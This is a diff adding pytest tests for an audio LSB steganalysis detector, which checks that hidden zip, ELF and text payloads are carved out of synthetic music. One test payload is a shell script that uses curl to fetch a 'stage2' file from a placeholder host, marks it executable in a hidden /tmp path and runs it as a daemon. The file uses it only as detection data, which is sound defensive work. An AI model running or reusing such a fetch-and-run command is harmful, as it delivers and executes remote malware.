@@ -1,0 +1,345 @@
+"""LSB steganalysis: carving payloads back out of the low bits, and estimating the replaced share."""
+
+from __future__ import annotations
+
+import base64
+import io
+import time
+import zipfile
+
+import numpy as np
+import pytest
+
+from audiomodel import steganalysis
+from audiomodel.corpus.stego_embed import embed_lsb
+from audiomodel.steganalysis import FEATURE_NAMES, LsbAnalyzer, StegoReport, analyse_lsb
+
+RATE = 44100
+
+
+def music_like(
+    seconds: float, *, channels: int = 2, level: float = 6000.0, seed: int = 0
+) -> np.ndarray:
+    """Notes made of decaying harmonics under attack/decay envelopes, plus ~1 LSB of noise.
+
+    Quantised to int16 (frames, channels); band-limited like most real recordings, with a
+    quiet passage where only the decaying tails and the noise remain.
+    """
+    rng = np.random.default_rng(seed)
+    n = int(seconds * RATE)
+    t = np.arange(n) / RATE
+    out = np.zeros((n, channels))
+    onset = 0.0
+    while onset < seconds * 0.7:
+        f0 = 110.0 * 2 ** (rng.integers(0, 36) / 12)
+        start = int(onset * RATE)
+        tt = t[start:] - onset
+        env = (1 - np.exp(-tt / 0.01)) * np.exp(-tt / rng.uniform(0.2, 0.8))
+        note = sum(
+            np.sin(2 * np.pi * f0 * k * tt + rng.uniform(0, 6.3)) / k**1.5
+            for k in range(1, 7)
+            if f0 * k < 9000
+        )
+        pan = rng.uniform(0.3, 1.0, channels)
+        out[start:] += (env * note)[:, None] * pan
+        onset += rng.uniform(0.15, 0.5)
+    out *= level / max(np.abs(out).max(), 1e-9)
+    out += rng.normal(0.0, 1.0, out.shape)
+    return np.clip(np.round(out), -32768, 32767).astype(np.int16)
+
+
+def zip_payload() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("loader.txt", "stage two " * 200)
+    return buf.getvalue()
+
+
+def elf_payload() -> bytes:
+    """An ELF64 little-endian executable header (e_ident, e_type EXEC, e_machine x86-64) + code."""
+    ident = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
+    header = (
+        ident + (2).to_bytes(2, "little") + (0x3E).to_bytes(2, "little") + (1).to_bytes(4, "little")
+    )
+    return header + bytes(range(256)) * 8
+
+
+TEXT = (
+    b"#!/bin/sh\n# fetch the second stage and run it\n"
+    b"curl -s http://example.invalid/stage2 -o /tmp/.cache_update && chmod +x /tmp/.cache_update\n"
+    b"/tmp/.cache_update --quiet --daemon\n"
+)
+
+PAYLOADS = {"zip": (zip_payload(), "zip"), "elf": (elf_payload(), "elf"), "text": (TEXT, "shebang")}
+
+
+def codes(report: StegoReport) -> list[str]:
+    return [f.code for f in report.findings]
+
+
+def analyse(samples: np.ndarray, block: int = 65536) -> StegoReport:
+    blocks = (samples[i : i + block] for i in range(0, samples.shape[0], block))
+    return analyse_lsb(blocks, bits_per_sample=16, channels=samples.shape[1])
+
+
+@pytest.fixture(scope="module")
+def clean() -> np.ndarray:
+    return music_like(6.0)
+
+
+def test_clean_music_like_signal_has_no_finding(clean: np.ndarray) -> None:
+    report = analyse(clean)
+    assert report.findings == []
+    assert report.estimated_fraction < 0.05
+    assert report.features["analysed"] == 1.0
+    assert tuple(report.features) == FEATURE_NAMES
+    assert abs(report.features["ws_z"]) < 5
+
+
+@pytest.mark.parametrize("payload_name", sorted(PAYLOADS))
+@pytest.mark.parametrize("bits", [1, 2])
+@pytest.mark.parametrize("order", ["lsb_first", "msb_first"])
+def test_length_prefixed_payload_is_carved_with_its_stream_and_size(
+    clean: np.ndarray, payload_name: str, bits: int, order: str
+) -> None:
+    payload, found = PAYLOADS[payload_name]
+    stego = embed_lsb(
+        clean, payload, bits=bits, bit_order=order, length_prefix=True, fraction=0.3, seed=3
+    )
+    report = analyse(stego)
+    hits = [f for f in report.findings if f.code == "stego.lsb_payload"]
+    assert hits, report.features
+    evidence = hits[0].evidence
+    assert evidence["found"] == found
+    assert evidence["bits"] == bits
+    assert evidence["bit_order"] == order
+    assert evidence["channel"] == "interleaved"
+    assert evidence["length_prefix"] == "le"
+    assert evidence["payload_bytes"] == len(payload)
+    assert evidence["byte_offset"] == 4
+
+
+@pytest.mark.parametrize("payload_name", sorted(PAYLOADS))
+def test_payload_without_prefix_in_one_channel_is_carved_from_that_channel(
+    clean: np.ndarray, payload_name: str
+) -> None:
+    payload, found = PAYLOADS[payload_name]
+    stego = embed_lsb(
+        clean, payload, bits=1, bit_order="msb_first", interleaved=False, fraction=0.1
+    )
+    hits = [f for f in analyse(stego).findings if f.code == "stego.lsb_payload"]
+    assert hits
+    assert hits[0].evidence["found"] == found
+    assert hits[0].evidence["channel"] == "0"
+    assert hits[0].evidence["length_prefix"] == "none"
+    assert hits[0].evidence["byte_offset"] == 0
+
+
+def test_payload_after_random_bytes_is_found_by_its_signature(clean: np.ndarray) -> None:
+    rng = np.random.default_rng(5)
+    stego = embed_lsb(clean, rng.bytes(1000) + zip_payload(), bits=1)
+    hits = [f for f in analyse(stego).findings if f.code == "stego.lsb_payload"]
+    assert hits and hits[0].evidence["found"] == "zip"
+    assert hits[0].evidence["byte_offset"] == 1000
+    assert hits[0].evidence["sample_offset"] == 8000
+
+
+def test_base64_payload_is_carved_as_base64(clean: np.ndarray) -> None:
+    encoded = base64.b64encode(np.random.default_rng(3).bytes(600))
+    hits = [
+        f
+        for f in analyse(embed_lsb(clean, encoded, bits=2)).findings
+        if f.code == "stego.lsb_payload"
+    ]
+    assert hits and hits[0].evidence["found"] == "base64"
+
+
+def test_letters_from_a_quiet_signals_low_bits_are_not_text() -> None:
+    # What the 2 low bits of a quiet passage pack into (seen on real speech shifted by one
+    # LSB): letters from a narrow range, no spaces, a few of the 64 base64 symbols.
+    alphabet = np.frombuffer(b"eWUdpEuvTgVDFtw", dtype=np.uint8)
+    run = np.random.default_rng(0).choice(alphabet, 200)
+    assert steganalysis._judge_text(run, run.tobytes(), 0) is None
+    prose = np.frombuffer(TEXT * 2, dtype=np.uint8)
+    assert steganalysis._judge_text(prose, prose.tobytes(), 0) is not None
+
+
+def test_random_payload_filling_a_quiet_signal_is_estimated_high() -> None:
+    quiet = music_like(8.0, level=300.0, seed=2)
+    stego = embed_lsb(quiet, np.random.default_rng(1).bytes(64), fraction=1.0, seed=9)
+    report = analyse(stego)
+    assert report.estimated_fraction > 0.8
+    assert "stego.lsb_statistical" in codes(report)
+    assert "stego.lsb_payload" not in codes(report)  # random bytes have nothing to carve
+    statistical = next(f for f in report.findings if f.code == "stego.lsb_statistical")
+    assert statistical.evidence["likely_bits"] == 1
+
+
+def test_half_filled_random_payload_is_estimated_near_half() -> None:
+    quiet = music_like(8.0, level=300.0, seed=4)
+    report = analyse(embed_lsb(quiet, b"", fraction=0.5, seed=2))
+    assert 0.35 < report.estimated_fraction < 0.65
+    assert "stego.lsb_statistical" in codes(report)
+
+
+def test_two_bit_random_payload_is_reported_as_two_bits() -> None:
+    quiet = music_like(8.0, level=300.0, seed=6)
+    report = analyse(embed_lsb(quiet, b"", bits=2, fraction=1.0, seed=2))
+    statistical = [f for f in report.findings if f.code == "stego.lsb_statistical"]
+    assert statistical and statistical[0].evidence["likely_bits"] == 2
+    assert report.features["bit1_rate"] > 0.5
+
+
+def test_random_payload_in_one_channel_is_estimated_as_half_the_low_bits() -> None:
+    quiet = music_like(8.0, level=300.0, seed=7)
+    report = analyse(embed_lsb(quiet, b"", interleaved=False, fraction=1.0, seed=4))
+    assert 0.35 < report.estimated_fraction < 0.65
+    assert report.features["prefix_channel"] == 0.0
+    assert "stego.lsb_statistical" in codes(report)
+
+
+def test_constant_dc_offset_before_the_music_is_not_taken_for_embedding() -> None:
+    # A tracker render that holds one even DC value for a second: the interpolator must
+    # predict a constant exactly, or its tiny residual correlates with the constant parity.
+    music = music_like(6.0, channels=1, seed=3)
+    held = np.full((RATE, 1), -1378, dtype=np.int16)
+    report = analyse(np.concatenate([held, music]))
+    assert report.findings == []
+    assert report.features["prefix_z"] < 5
+
+
+def test_slow_sub_lsb_steps_within_an_lsb_pair_are_not_flagged() -> None:
+    # A tiny slow signal held between 0 and 1 (one LSB pair) for runs of 5-30 samples: parity
+    # follows the residual at every step by itself, so z is huge, but the replaced-bit rate it
+    # implies stays far below that of replaced bits.
+    runs = np.random.default_rng(12).integers(5, 30, 40000)
+    steps = np.repeat(np.arange(runs.size) % 2, runs)[: 6 * RATE].astype(np.int16)
+    report = analyse(steps[:, None])
+    assert report.features["prefix_z"] > 50
+    assert report.features["prefix_rate"] < 0.35
+    assert report.findings == []
+
+
+def test_merging_segments_of_a_long_file_keeps_the_estimates(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    stego = embed_lsb(music_like(8.0, level=300.0, seed=5), b"", fraction=0.5, seed=8)
+    fine = analyse(stego)
+    monkeypatch.setattr(steganalysis, "_MAX_SEGMENTS", 8)
+    coarse = analyse(stego)
+    assert coarse.features["ws_z"] == pytest.approx(fine.features["ws_z"], rel=1e-9)
+    assert coarse.estimated_fraction == pytest.approx(fine.estimated_fraction, abs=0.1)
+    assert codes(coarse) == codes(fine)
+
+
+def test_clean_quiet_signal_is_not_flagged() -> None:
+    report = analyse(music_like(8.0, level=300.0, seed=2))
+    assert report.findings == []
+    assert report.estimated_fraction < 0.05
+
+
+def test_streaming_in_blocks_gives_the_same_report_as_one_block(clean: np.ndarray) -> None:
+    stego = embed_lsb(clean, zip_payload(), bits=2, fraction=0.6, length_prefix=True, seed=1)
+    whole = analyse(stego, block=stego.shape[0])
+    for block in (777, 4096, 65536 + 13):
+        parts = analyse(stego, block=block)
+        assert [f.to_dict() for f in parts.findings] == [f.to_dict() for f in whole.findings]
+        assert parts.estimated_fraction == pytest.approx(whole.estimated_fraction, abs=1e-9)
+        assert parts.features.keys() == whole.features.keys()
+        for key, value in whole.features.items():
+            assert parts.features[key] == pytest.approx(value, rel=1e-6, abs=1e-9), key
+
+
+def test_float_blocks_are_skipped() -> None:
+    report = analyse_lsb([np.zeros((1000, 2), dtype=np.float32)], bits_per_sample=16, channels=2)
+    assert report.findings == []
+    assert report.features["analysed"] == 0.0
+    assert tuple(report.features) == FEATURE_NAMES
+
+
+def test_eight_bit_pcm_is_carved_but_not_measured() -> None:
+    samples = np.random.default_rng(0).integers(-40, 40, (2 * RATE, 1)).astype(np.int16)
+    stego8 = embed_lsb(samples, zip_payload(), bits=1)
+    left = stego8 << 8  # soundfile's int16 for 8-bit PCM
+    report = analyse_lsb([left], bits_per_sample=8, channels=1)
+    assert "stego.lsb_payload" in codes(report)
+    assert report.features["statistics"] == 0.0
+
+
+def test_24_bit_left_justified_payload_is_carved() -> None:
+    noise = np.random.default_rng(1).integers(0, 256, (3 * RATE, 2))
+    base = (music_like(3.0).astype(np.int32) * 256 + noise).astype(np.int32)
+    # Embed in the 24-bit values' low bits: do it on their low 16 bits, which hold the LSB.
+    low = (base & 0xFFFF).astype(np.uint16).view(np.int16)
+    stego_low = embed_lsb(low, zip_payload(), bits=1).view(np.uint16).astype(np.int32)
+    stego = ((base & ~0xFFFF) | stego_low).astype(np.int32)
+    report = analyse_lsb([stego << 8], bits_per_sample=24, channels=2)
+    assert "stego.lsb_payload" in codes(report)
+    right = analyse_lsb([stego], bits_per_sample=24, channels=2, justify="right")
+    assert "stego.lsb_payload" in codes(right)
+
+
+def test_random_low_bits_are_not_a_payload() -> None:
+    rng = np.random.default_rng(11)
+    for _ in range(5):
+        noise = rng.integers(-2000, 2000, (RATE, 2)).astype(np.int16)
+        assert "stego.lsb_payload" not in codes(analyse(noise))
+
+
+def test_wrong_block_shape_is_rejected() -> None:
+    analyzer = LsbAnalyzer(bits_per_sample=16, channels=2)
+    with pytest.raises(ValueError, match="frames, 2"):
+        analyzer.update(np.zeros((10, 3), dtype=np.int16))
+
+
+def test_analysis_keeps_well_ahead_of_realtime() -> None:
+    samples = music_like(20.0, seed=8)
+    analyse(samples)  # warm the FFT tables
+    started = time.process_time()
+    analyse(samples)
+    took = time.process_time() - started
+    # The target is 300x realtime (0.067 s here) on an idle core; a shared CI core gets slack.
+    assert took < 20.0 / 40
+
+
+class TestEmbedLsb:
+    def test_only_the_low_bits_of_the_covered_share_change(self, clean: np.ndarray) -> None:
+        stego = embed_lsb(clean, b"payload", bits=2, fraction=0.25)
+        assert stego is not clean and stego.dtype == np.int16 and stego.shape == clean.shape
+        assert np.array_equal(stego >> 2, clean >> 2)
+        flat_clean, flat = clean.reshape(-1), stego.reshape(-1)
+        covered = round(0.25 * flat.size)
+        assert np.array_equal(flat[covered:], flat_clean[covered:])
+        assert np.count_nonzero(flat[:covered] != flat_clean[:covered]) > covered // 2
+
+    def test_channel_zero_only_leaves_other_channels_alone(self, clean: np.ndarray) -> None:
+        stego = embed_lsb(clean, b"x" * 100, interleaved=False)
+        assert np.array_equal(stego[:, 1], clean[:, 1])
+        assert not np.array_equal(stego[:, 0], clean[:, 0])
+
+    @pytest.mark.parametrize("order", ["lsb_first", "msb_first"])
+    @pytest.mark.parametrize("bits", [1, 2, 3])
+    def test_bits_read_back_in_order(self, clean: np.ndarray, bits: int, order: str) -> None:
+        payload = bytes(range(1, 200))
+        stego = embed_lsb(clean, payload, bits=bits, bit_order=order, length_prefix=True)
+        low = stego.reshape(-1).view(np.uint16) & ((1 << bits) - 1)
+        shifts = np.arange(bits) if order == "lsb_first" else np.arange(bits - 1, -1, -1)
+        stream = ((low[:, None] >> shifts) & 1).astype(np.uint8).ravel()
+        data = np.packbits(stream, bitorder="little" if order == "lsb_first" else "big").tobytes()
+        assert data[:4] == len(payload).to_bytes(4, "little")
+        assert data[4 : 4 + len(payload)] == payload
+
+    def test_repeat_fill_repeats_the_message(self, clean: np.ndarray) -> None:
+        stego = embed_lsb(clean, b"ABCD", fraction=0.01, fill="repeat")
+        data = np.packbits(stego.reshape(-1)[: 8 * 64] & 1, bitorder="little").tobytes()
+        assert data == b"ABCD" * 16
+
+    def test_bad_arguments_raise(self, clean: np.ndarray) -> None:
+        with pytest.raises(ValueError):
+            embed_lsb(clean.astype(np.int32), b"x")
+        with pytest.raises(ValueError):
+            embed_lsb(clean, b"x", bits=0)
+        with pytest.raises(ValueError):
+            embed_lsb(clean, b"x", fraction=1.5)
+        with pytest.raises(ValueError):
+            embed_lsb(clean, b"x", bit_order="middle")
